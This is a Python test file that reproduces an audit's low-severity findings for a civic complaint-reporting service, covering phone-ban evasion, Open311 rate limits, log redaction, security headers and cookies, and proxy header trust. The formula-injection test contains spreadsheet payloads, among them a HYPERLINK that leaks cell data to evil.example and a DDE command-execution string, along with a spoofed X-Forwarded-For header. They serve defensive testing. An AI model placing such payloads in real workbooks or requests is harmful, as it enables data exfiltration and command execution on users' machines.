"""The probe's low findings (issue 19), each reproduced: phone forms evading bans, Open311
POST without bans or limits, secrets and tracking codes in the access log, formula injection
in workbooks, missing security headers, the session cookie's Secure flag, no-store on staff
answers, a malformed postpone deadline, X-Forwarded-For trusted by default."""

from __future__ import annotations

import io
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import Connection, create_engine
from support import IN_P111, file_report, live_server, load_mini, type_of

from abuse import service as abuse
from abuse.exceptions import Banned
from abuse.service import Limit, Policy
from accounts.service import Principal, create_api_key, create_user
from api.logs import redact_path
from documents.model import Document, Paragraph, Table
from documents.xlsx import render_xlsx
from incidents import service
from incidents.exceptions import InvalidReport
from jurisdictions import catalog

PASSWORD = "correct horse battery"
ROOT = Path(__file__).resolve().parents[2]
PHONE = "13800138000"


@pytest.mark.parametrize("form", ["+86 138 0013 8000", "8613800138000", "0086-138-0013-8000"])
def test_every_form_of_a_banned_phone_is_banned(conn: Connection, form: str) -> None:
    load_mini(conn)
    abuse.add_ban(conn, kind="phone", value=PHONE, reason="骚扰")
    with pytest.raises(Banned):
        abuse.check_report(
            conn,
            policy=Policy(None, None, None),
            ip="203.0.113.1",
            phone=form,
            lon=IN_P111[0],
            lat=IN_P111[1],
            type_code="x",
            idempotency_key=None,
            now=datetime(2026, 12, 1, tzinfo=UTC),
        )
    # and a ban written with the country code catches the bare number
    assert abuse.normalize_phone("+86 " + PHONE) == PHONE


def test_phone_forms_share_one_rate_limit(conn: Connection) -> None:
    policy = Policy(None, Limit(1, 3600), None)
    args = {
        "ip": "203.0.113.2",
        "lon": IN_P111[0],
        "lat": IN_P111[1],
        "type_code": "x",
        "idempotency_key": None,
        "now": datetime(2026, 12, 1, tzinfo=UTC),
    }
    abuse.check_report(conn, policy=policy, phone="13900139000", **args)  # type: ignore[arg-type]
    with pytest.raises(Exception, match="phone"):
        abuse.check_report(conn, policy=policy, phone="+8613900139000", **args)  # type: ignore[arg-type]


def test_formula_text_stays_text_in_workbooks() -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    doc = Document(
        title="=cmd|' /C calc'!A0",
        blocks=[
            Paragraph("@SUM(1+1)"),
            Table(["议题", "-2+3"], [[evil, "+1"], ["正常", 5]], title="议程"),
        ],
    )
    wb = load_workbook(io.BytesIO(render_xlsx(doc)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for value in (evil, "+1", "-2+3", "@SUM(1+1)", "=cmd|' /C calc'!A0"):
        assert value in texts, value  # shown as written
        assert texts[value].data_type == "s" and texts[value].quotePrefix, value
    assert not any(c.data_type == "f" for c in cells)
    assert any(c.value == 5 and c.data_type == "n" for c in cells)  # numbers stay numbers


def test_access_log_is_redacted() -> None:
    out = redact_path(
        "/open311/v2/requests.json?api_key=SECRETKEY&phone=%2B8613800138000&service_code=a"
    )
    assert "SECRETKEY" not in out and "13800138000" not in out and "service_code=a" in out
    assert "QX7K2M" not in redact_path("/track/QX7K2M9P?lang=en")
    assert "QX7K2M" not in redact_path("/api/v1/track/QX7K2M9P")
    assert "QX7K2M" not in redact_path("/track?code=QX7K2M9P")
    assert redact_path("/api/v1/resolve?lon=120.1&lat=30.3") == "/api/v1/resolve?lon=120.1&lat=30.3"


def test_malformed_due_at_is_a_422(conn: Connection, world: dict[str, Principal]) -> None:
    d, urban = world["dispatcher"], world["urban"]
    cid = file_report(conn, IN_P111, type_of(conn, agency="urban_management"))["id"]

    def act(who: Principal, action: str, **payload: str) -> None:
        version = service.get_case(conn, case_id=cid, principal=d)["version"]
        service.transition(
            conn, case_id=cid, principal=who, action=action, payload=payload, if_match=version
        )

    for who, step in ((d, "accept"), (d, "dispatch"), (urban, "start")):
        act(who, step)
    with pytest.raises(InvalidReport, match="due_at"):
        act(urban, "request_postpone", note="需补充勘测", due_at="next tuesday")


@pytest.fixture(scope="module")
def site(module_scratch_db_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    eng = create_engine(module_scratch_db_url)
    with eng.begin() as conn:
        load_mini(conn)
        catalog.sync_taxonomy(conn)
        create_user(conn, username="disp", password=PASSWORD, role="dispatcher")
        key = create_api_key(conn, name="hotline")
        code = type_of(conn, agency="urban_management")
        abuse.add_ban(conn, kind="phone", value=PHONE, reason="骚扰")
        abuse.add_ban(conn, kind="ip", value="198.51.100.7", reason="flood")
    eng.dispose()
    log = tmp_path_factory.mktemp("log") / "server.log"
    with live_server(module_scratch_db_url, log=log, SHUDI_REPORT_LIMIT_PHONE="2/1h") as base:
        yield {"base": base, "key": key, "code": code, "log": log, "url": module_scratch_db_url}


def test_open311_post_checks_bans_and_limits(site: dict) -> None:
    base = site["base"]
    form = {
        "api_key": site["key"],
        "service_code": site["code"],
        "lat": IN_P111[1],
        "long": IN_P111[0],
        "description": "楼道堆物",
    }
    banned = httpx.post(f"{base}/open311/v2/requests.json", data=form | {"phone": "+86" + PHONE})
    assert banned.status_code == 403, banned.text
    phone = {"phone": "13700137000"}
    for _ in range(2):
        ok = httpx.post(f"{base}/open311/v2/requests.json", data=form | phone)
        assert ok.status_code == 200, ok.text
    limited = httpx.post(
        f"{base}/open311/v2/requests.json", data=form | {"phone": "86 137 0013 7000"}
    )
    assert limited.status_code == 429, limited.text
    assert limited.json()[0]["code"] == 429


def test_headers_on_pages_and_no_store_for_staff(site: dict) -> None:
    base = site["base"]
    page = httpx.get(f"{base}/report")
    csp = page.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
    assert page.headers["x-frame-options"] == "DENY"
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["referrer-policy"] == "same-origin"
    assert "no-store" in page.headers["cache-control"]
    r = httpx.post(f"{base}/api/v1/auth/token", data={"username": "disp", "password": PASSWORD})
    auth = {"Authorization": f"Bearer {r.json()['access_token']}"}
    staff = httpx.get(f"{base}/api/v1/cases", headers=auth)
    assert staff.status_code == 200 and "no-store" in staff.headers["cache-control"]
    with httpx.Client(base_url=base) as browser:
        login = browser.post("/login", data={"username": "disp", "password": PASSWORD})
        assert "secure" not in login.headers["set-cookie"].lower()  # plain HTTP by default
        page = browser.get("/map/dispatch")
        assert page.status_code == 200 and "no-store" in page.headers["cache-control"]


def test_access_log_holds_no_keys_phones_or_codes(site: dict) -> None:
    base = site["base"]
    httpx.get(f"{base}/open311/v2/requests.json", params={"api_key": site["key"], "phone": PHONE})
    httpx.get(f"{base}/track/QX7K2M9PAB")
    httpx.get(f"{base}/api/v1/track/QX7K2M9PAB")
    text = site["log"].read_text(errors="replace")
    assert "GET /open311/v2/requests.json" in text  # the log is being written
    assert site["key"] not in text and PHONE not in text and "QX7K2M9PAB" not in text


def test_forwarded_for_is_not_trusted_by_default(site: dict) -> None:
    base = site["base"]
    body = {"lon": IN_P111[0], "lat": IN_P111[1], "type": site["code"], "description": "噪音"}
    spoof = {"X-Forwarded-For": "198.51.100.7"}  # a banned address, claimed by a header
    headers = spoof | {"Idempotency-Key": "spoof-1"}
    r = httpx.post(f"{base}/api/v1/reports", json=body, headers=headers, timeout=30)
    assert r.status_code == 201, r.text  # the header from an untrusted peer is ignored
    dockerfile = (ROOT / "Dockerfile").read_text()
    assert "SHUDI_FORWARDED_ALLOW_IPS" in dockerfile


def test_forwarded_for_from_a_trusted_proxy_and_secure_cookie(site: dict) -> None:
    body = {"lon": IN_P111[0], "lat": IN_P111[1], "type": site["code"], "description": "噪音"}
    with live_server(
        site["url"], SHUDI_FORWARDED_ALLOW_IPS="127.0.0.1", SHUDI_SESSION_COOKIE_SECURE="true"
    ) as base:
        r = httpx.post(
            f"{base}/api/v1/reports",
            json=body,
            headers={"X-Forwarded-For": "198.51.100.7", "Idempotency-Key": "spoof-2"},
            timeout=30,
        )
        assert r.status_code == 403 and r.json()["code"] == "banned"
        login = httpx.post(f"{base}/login", data={"username": "disp", "password": PASSWORD})
        assert "secure" in login.headers["set-cookie"].lower()
